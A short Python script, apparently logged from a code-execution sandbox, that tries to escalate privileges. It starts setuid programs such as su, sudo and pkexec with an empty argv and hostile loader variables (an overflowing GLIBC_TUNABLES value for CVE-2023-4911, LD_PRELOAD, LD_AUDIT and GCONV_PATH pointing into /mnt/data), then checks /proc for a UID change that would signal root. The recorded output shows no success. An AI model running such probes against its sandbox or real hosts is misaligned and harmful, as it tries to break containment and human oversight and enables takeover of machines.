# Starts set-id programs with what the dynamic linker has stumbled over: GLIBC_TUNABLES (CVE-2023-4911), LD_PRELOAD, LD_AUDIT, an empty argv (CVE-2021-4034).
# verdict: COMPLETED
# prints: became []
import ctypes, os, time
became = []
programs = [path for path in ("/usr/bin/su", "/usr/bin/mount", "/usr/bin/passwd", "/usr/bin/chsh", "/usr/bin/pkexec",
                              "/usr/bin/sudo") if os.path.exists(path)]
variables = {"GLIBC_TUNABLES": "glibc.malloc.mxfast=glibc.malloc.mxfast=" + "A" * 600, "LD_PRELOAD": "/mnt/data/x.so",
             "LD_AUDIT": "/mnt/data/x.so", "GCONV_PATH": "/mnt/data", "LD_LIBRARY_PATH": "/mnt/data",
             "MALLOC_CHECK_": "3", "PATH": "/mnt/data"}
libc = ctypes.CDLL(None, use_errno=True)
for path in programs:
    child = os.fork()
    if child == 0:
        os.dup2(os.open("/dev/null", os.O_RDWR), 0)
        os.dup2(0, 1)
        os.dup2(0, 2)
        block = (ctypes.c_char_p * (len(variables) + 1))(*[f"{k}={v}".encode() for k, v in variables.items()], None)
        nothing = (ctypes.c_char_p * 1)(None)
        libc.execve(path.encode(), nothing, block)
        os._exit(99)
    for _ in range(15):
        time.sleep(0.002)
        try:
            with open(f"/proc/{child}/status") as status:
                uids = [line for line in status if line.startswith("Uid:")][0].split()[1:]
        except OSError:
            break
        if set(uids) != {str(os.getuid())}:
            became.append((path, uids))
    os.kill(child, 9)
    os.waitpid(child, 0)
print("became", became)
